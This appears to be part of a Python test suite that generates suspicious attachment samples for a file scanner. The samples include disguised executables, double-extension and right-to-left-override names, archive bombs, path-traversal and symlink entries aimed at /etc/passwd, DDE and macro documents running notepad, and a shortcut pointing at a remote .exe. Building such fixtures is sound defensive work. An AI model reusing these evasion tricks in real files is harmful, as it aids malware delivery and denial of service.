        "jar": zipped({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe" + b"\0" * 60}),
        "chm": b"ITSF" + b"\0" * 100, "url": b"[InternetShortcut]\r\nURL=file://203.0.113.9/p/a.exe\r\n",
        "mobileconfig": b"<?xml version='1.0'?><plist><dict><key>PayloadType</key><string>Configuration</string></dict></plist>",
    }.items():  # fmt: skip
        yield f"script_{ending.replace('-', '_')}", f"Document.{ending}", lambda text=text: text  # type: ignore[misc]
    yield "shortcut_arguments", "Facture.lnk", lambda: shortcut("/c notepad.exe")
    yield "shortcut_plain", "Dossier.lnk", lambda: shortcut("", "..\\Documents")
    yield "shortcut_as_pdf", "Facture.pdf", lambda: shortcut("/c notepad.exe")
    yield (
        "desktop_entry",
        "Facture.desktop",
        lambda: b"[Desktop Entry]\nType=Application\nExec=/bin/true\n",
    )
    yield "exe_as_pdf", "Resultat.pdf", program
    yield "exe_as_docx", "Resultat.docx", program
    yield "exe_as_jpg", "Photo.jpg", program
    yield "elf_as_pdf", "Notice.pdf", lambda: b"\x7fELF\2\1\1".ljust(200, b"\0")
    yield (
        "vbs_as_doc",
        "Notice.doc",
        lambda: (
            b'On Error Resume Next\r\nSet a = CreateObject("WScript.Shell")\r\na.Run "notepad"\r\n'
        ),
    )
    yield "batch_as_pdf", "Notice2.pdf", lambda: b"@echo off\r\nnotepad.exe\r\n"
    yield (
        "html_as_pdf",
        "Notice3.pdf",
        lambda: b"<html><script>location='https://x.invalid'</script></html>",
    )
    yield "eicar", "eicar.com", lambda: EICAR
    yield "eicar_text", "essai.txt", lambda: EICAR


def _images() -> Iterator[tuple[str, str, Make]]:
    lnk = shortcut("/c notepad.exe")
    yield "iso_shortcut", "dk.iso", lambda: cd({"Facture.lnk": lnk, "a.dll": program()})
    yield "iso_exe", "dl.iso", lambda: cd({"Facture.exe": program()})
    yield "iso_script", "dm.iso", lambda: cd({"Facture.js": b"WScript.Echo(1)"})
    yield "iso_plain", "dn.iso", lambda: cd({"Lisez.txt": b"bonjour"})
    yield "iso_as_img", "do.img", lambda: cd({"Facture.lnk": lnk})
    yield "img_fat_exe", "dp.img", lambda: floppy({"FACTURE.EXE": program()})
    yield "img_fat_lnk", "dq.img", lambda: floppy({"Facture de mars.lnk": lnk})
    yield "vhd_fixed", "dr.vhd", lambda: fixed_disk(floppy({"FACTURE.LNK": lnk}))
    yield "vhd_growing", "ds.vhd", lambda: growing_disk(floppy({"FACTURE.EXE": program()}))
    yield "vhdx", "dt.vhdx", lambda: newer_disk(floppy({"FACTURE.EXE": program()}))
    yield "iso_in_zip", "du.zip", lambda: zipped({"Facture.iso": cd({"Facture.lnk": lnk})})


def _tar(files: dict[str, bytes], mode: str = "w", link: tuple[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        if link:
            info = tarfile.TarInfo(link[0])
            info.type, info.linkname = tarfile.SYMTYPE, link[1]
            archive.addfile(info)
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _archives() -> Iterator[tuple[str, str, Make]]:
    js = b"new ActiveXObject('WScript.Shell')"
    yield "zip_script", "dv.zip", lambda: zipped({"Facture.js": js})
    yield "zip_exe", "dw.zip", lambda: zipped({"Facture.exe": program()})
    yield (
        "zip_nested",
        "dx.zip",
        lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c.vbs": b"x"})})}),
    )
    yield "zip_eicar", "dy.zip", lambda: zipped({"a.txt": EICAR})
    yield "zip_locked_known", "dz.zip", lambda: locked("a.js", js, "infected")
    yield "zip_locked_unknown", "ea.zip", lambda: locked("a.docx", b"PK", "ni vu ni connu 77")
    yield (
        "zip_aes_known",
        "eb.zip",
        lambda: with_seven("zip", {"a.js": js}, "-pinfected", "-mem=AES256"),
    )
    yield "seven_script", "ec.7z", lambda: with_seven("7z", {"a.js": js})
    yield "seven_locked_known", "ed.7z", lambda: with_seven("7z", {"a.js": js}, "-p1234")
    yield "seven_locked_names", "ee.7z", lambda: with_seven("7z", {"a.js": js}, "-p1234", "-mhe=on")
    yield (
        "seven_locked_unknown",
        "ef.7z",
        lambda: with_seven("7z", {"a.js": js}, "-pni vu ni connu 77", "-mhe=on"),
    )
    yield "tar_script", "eg.tar", lambda: _tar({"a.vbs": b"x"})
    yield "tgz_exe", "eh.tar.gz", lambda: _tar({"a.exe": program()}, "w:gz")
    yield "gz_exe", "ei.exe.gz", lambda: gzip.compress(program())
    yield "xz_tar_script", "ej.tar.xz", lambda: _tar({"a.js": js}, "w:xz")
    yield (
        "uuencoded_exe",
        "fr.txt",
        lambda: (
            b"Bonjour\n\nbegin 644 a.exe\n"
            + b"".join(binascii.b2a_uu(program()[i : i + 45]) for i in range(0, 1024, 45))
            + b"`\nend\n"
        ),
    )
    yield "binhex", "fs.hqx", lambda: b"(This file must be converted with BinHex 4.0)\n:abc:\n"
    yield (
        "mail_without_ending",
        "message",
        lambda: (
            b"From: a@b.invalid\nSubject: x\nContent-Type: application/octet-stream; name=a.js\nContent-Disposition: attachment; filename=a.js\n\nnew ActiveXObject('WScript.Shell')\n"
        ),
    )
    yield "cpio_exe", "ft.cpio", lambda: _cpio("a.exe", program())
    yield "zip_traversal", "ek.zip", lambda: zipped({"../../a.txt": b"x"})
    yield "zip_absolute", "el.zip", lambda: zipped({"/etc/a.txt": b"x"})
    yield "tar_traversal", "em.tar", lambda: _tar({"../../a.txt": b"x"})
    yield "tar_link", "en.tar", lambda: _tar({"l/a.txt": b"x"}, link=("l", "/etc"))
    yield "zip_link", "eo.zip", _zip_link
    yield (
        "zip_two_names",
        "ep.zip",
        lambda: zipped({"facture.txt": b"x" * 40}).replace(b"facture.txt", b"facture.exe", 1),
    )
    yield "zip_bomb", "eq.zip", lambda: zipped({"a.txt": b"\0" * (80 << 20)})
    yield "zip_bomb_overlapping", "er.zip", overlapping
    yield "zip_bomb_nested", "es.zip", _nested_bomb
    yield "gz_bomb", "et.gz", lambda: gzip.compress(b"\0" * (300 << 20))
    yield "docx_bomb", "eu.docx", lambda: office("word", {"word/media/a.xml": b" " * (120 << 20)})
    yield "zip_too_many", "ev.zip", lambda: zipped({f"{n}.txt": b"" for n in range(6000)})
    yield "zip_too_deep", "ew.zip", lambda: _deep(12)
    yield "zip_cut", "ex.zip", lambda: zipped({"a.txt": b"abc" * 999, "b.txt": b"x"})[:-40]
    yield "ole_ring", "ey.doc", _ring
    yield (
        "xml_entities",
        "ez.xml",
        lambda: (
            b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'aaaa'>"
            + b"".join(b"<!ENTITY %c '%s'>" % (c, b"&%c;" % (c - 1) * 10) for c in range(98, 110))
            + b"]><l>&m;</l>"
        ),
    )


def _cpio(name: str, content: bytes) -> bytes:
    def entry(name: str, content: bytes, mode: int) -> bytes:
        row = "070707" + "".join(f"{n:06o}" for n in (0, 1, mode, 0, 0, 1, 0)) + f"{0:011o}"
        return f"{row}{len(name) + 1:06o}{len(content):011o}{name}\0".encode() + content

    return entry(name, content, 0o100644) + entry("TRAILER!!!", b"", 0)


def _zip_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("lien")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "../../../etc/passwd")
    return out.getvalue()


def _nested_bomb() -> bytes:
    inner = zipped({"a.txt": b"\0" * (12 << 20)})
    return zipped({f"{n}.zip": inner for n in range(40)})


def _deep(levels: int) -> bytes:
    inner = b"bonjour"
    for _ in range(levels):
        inner = zipped({"a.zip": inner})
    return inner


def _ring() -> bytes:
    raw = bytearray(word())
    (fat,) = struct.unpack_from("<I", raw, 76)
    struct.pack_into("<I", raw, (fat + 1) * 512 + 8, 0)  # the third sector leads back to the first
    return bytes(raw)


def _names() -> Iterator[tuple[str, str, Make]]:
    yield "name_double", "Facture.pdf.exe", program
    yield "name_double_script", "Facture.docx.js", lambda: b"WScript.Echo(1)"
    yield "name_double_page", "Facture.pdf.html", lambda: b"<html>bonjour</html>"
    yield "name_turned", "Facture\u202efdp.exe", program
    yield "name_turned_script", "Ordonnance\u202excod.js", lambda: b"x=1"
    yield "name_pushed", "Facture.pdf" + " " * 60 + ".exe", program
    yield "name_unseen", "Facture.pdf\u200b.exe", program
    yield "name_lookalike", "F\u0430cture.docx", lambda: office("word")
    yield "zip_name_turned", "fa.zip", lambda: zipped({"Facture\u202efdp.scr": program()})


def _faces() -> Iterator[tuple[str, str, Make]]:
    letter = Pdf().bytes()
    yield "pdf_zip", "fb.pdf", lambda: letter + zipped({"a.js": b"x"})
    yield "pdf_exe_behind", "fc.pdf", lambda: letter + program()
    yield "exe_pdf", "fd.pdf", lambda: program() + letter
    yield "exe_early_pdf", "fe.pdf", lambda: program()[:0x1C0] + letter
    yield (
        "gif_script",
        "ff.gif",
        lambda: b"GIF89a\1\0\1\0\0\0\0;" + b"<script>alert(1)</script><hta:application/>",
    )
    yield (
        "png_zip",
        "fg.png",
        lambda: (
            b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + b"IEND\xaeB`\x82" + zipped({"a.exe": program()})
        ),
    )
    yield "jpg_exe", "fh.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 40 + b"\xff\xd9" + program()
    yield "pdf_hta", "fi.pdf", lambda: letter + b"<hta:application/><script>1</script>"
    yield "zip_as_docx", "fj.docx", lambda: zipped({"a.exe": program()})
    yield "rtf_as_pdf", "fk.pdf", lambda: b"{\\rtf1 Bonjour}"


def _flat() -> Iterator[tuple[str, str, Make]]:
    mime = base64.b64encode(b"ActiveMime".ljust(0x32, b"\0") + zlib.compress(vba())).decode()
    yield (
        "word_2003_macro",
        "fl.xml",
        f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="x" w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">{mime}</w:binData></w:docSuppData></w:wordDocument>'.encode,
    )
    yield (
        "word_2003_dde",
        "fm.xml",
        lambda: (
            b'<?xml version="1.0"?><w:wordDocument xmlns:w="x"><w:instrText>DDEAUTO cmd.exe "/k notepad"</w:instrText></w:wordDocument>'
        ),
    )
    yield (
        "excel_2003_dde",
        "fn.xml",
        lambda: (
            b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="=cmd|&apos;/c notepad&apos;!A0"/></Workbook>'
        ),
    )
    yield (
        "flat_office_macro",
        "fo.xml",
        lambda: (
            b'<?xml version="1.0"?><pkg:package xmlns:pkg="x"><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>'
            + base64.b64encode(vba())
            + b"</pkg:binaryData></pkg:part></pkg:package>"
        ),
    )
    yield (
        "flat_opendocument",
        "fp.fodt",
        lambda: (
            b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="s" xmlns:xlink="x">'
            + _listener("dom:load").encode()
            + b'<script:module>Sub Main\n Shell("notepad")\nEnd Sub</script:module></office:document>'
        ),
    )
    yield (
        "xslt_script",
        "fq.xsl",
        lambda: (
            b'<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="x" xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script>var r = new ActiveXObject("WScript.Shell");</ms:script></xsl:stylesheet>'
        ),
    )


# What is packed as macros are, for whoever tries the unpacking alone.
PACKED = packed(AUTO.encode())
